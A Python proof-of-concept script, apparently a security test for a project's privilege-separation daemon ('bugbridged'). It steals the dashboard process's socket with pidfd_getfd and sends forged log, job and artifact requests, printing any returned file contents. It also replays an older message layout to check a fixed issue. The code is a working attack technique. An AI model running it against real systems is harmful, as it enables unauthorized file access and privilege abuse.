#!/usr/bin/env python3
"""Speak privsep.h's protocol to bugbridged as the dashboard's process would.

usage: ps_attack.py PID log-open JOB NAME [AUTH]
       ps_attack.py PID log-list JOB [AUTH]
       ps_attack.py PID job-add BUG [AUTH]
       ps_attack.py PID artifact TOKEN NAME

PID is the dashboard's process: its end of the socket to bugbridged (fd 4,
web_proc.h) is taken with pidfd_getfd(2), as code running in that process
would hold it (root only).  One request is sent, with the caller's token
AUTH ("" when not given), and the answer printed as
"STATUS SIZE-OR-ID TEXT" and, when a file came along, a line "file:" and
the file's first 200 bytes.  The layouts below are web/privsep.h's structs.
PS_LAYOUT=old sends the request without its caller (the layout before
issue 35), to show what an older bugbridged gives the same attack.
"""
import ctypes
import os
import socket
import sys

PS_JOB_ADD, PS_LOG_OPEN, PS_LOG_LIST, PS_ARTIFACT_OPEN = 2, 3, 4, 5
WEB_FD_PRIVSEP = 4
SYS_PIDFD_GETFD = 438


class Msg(ctypes.Structure):
    _fields_ = [("type", ctypes.c_uint32), ("seq", ctypes.c_uint64),
                ("kind", ctypes.c_uint32), ("bug_id", ctypes.c_int64),
                ("candidate_id", ctypes.c_int64), ("job_id", ctypes.c_int64),
                ("patch_count", ctypes.c_int32), ("with_baseline", ctypes.c_uint32),
                ("name", ctypes.c_char * 136), ("token", ctypes.c_char * 72),
                ("auth", ctypes.c_char * 256), ("method", ctypes.c_char * 8),
                ("path", ctypes.c_char * 1032), ("args", ctypes.c_char * 2048),
                ("args_len", ctypes.c_uint32)]


class Reply(ctypes.Structure):
    _fields_ = [("type", ctypes.c_uint32), ("seq", ctypes.c_uint64),
                ("status", ctypes.c_int32), ("id", ctypes.c_int64),
                ("size", ctypes.c_uint64), ("text", ctypes.c_char * 8192)]


def steal_socket(pid):
    libc = ctypes.CDLL(None, use_errno=True)
    pidfd = os.pidfd_open(pid)
    fd = libc.syscall(SYS_PIDFD_GETFD, pidfd, WEB_FD_PRIVSEP, 0)
    if fd < 0:
        sys.exit("pidfd_getfd: %s" % os.strerror(ctypes.get_errno()))
    os.close(pidfd)
    return socket.socket(fileno=fd)


def main():
    pid, what, args = int(sys.argv[1]), sys.argv[2], sys.argv[3:]
    m = Msg()
    m.seq = 1 << 60          # never one of the dashboard's own
    if what == "log-open":
        m.type, m.job_id, m.name = PS_LOG_OPEN, int(args[0]), args[1].encode()
        auth = args[2:]
    elif what == "log-list":
        m.type, m.job_id = PS_LOG_LIST, int(args[0])
        auth = args[1:]
    elif what == "job-add":
        m.type, m.bug_id, m.kind = PS_JOB_ADD, int(args[0]), 0
        auth = args[1:]
    elif what == "artifact":
        m.type, m.token, m.name = PS_ARTIFACT_OPEN, args[0].encode(), args[1].encode()
        auth = []
    else:
        sys.exit(__doc__)
    m.auth = (auth[0] if auth else "").encode()
    sock = steal_socket(pid)
    sock.settimeout(30)
    wire = bytes(m)
    if os.environ.get("PS_LAYOUT") == "old":
        wire = wire[:Msg.auth.offset] + bytes(-Msg.auth.offset % 8)
    sock.send(wire)
    data, anc, _, _ = sock.recvmsg(ctypes.sizeof(Reply), socket.CMSG_SPACE(4))
    r = Reply.from_buffer_copy(data)
    print(r.status, r.size if what in ("log-open", "artifact") else r.id,
          r.text.decode(errors="replace").replace("\n", " ").strip())
    for level, kind, fds in anc:
        if level == socket.SOL_SOCKET and kind == socket.SCM_RIGHTS:
            fd = int.from_bytes(fds[:4], sys.byteorder)
            print("file:", os.read(fd, 200).decode(errors="replace").replace("\n", " "))
            os.close(fd)


if __name__ == "__main__":
    main()
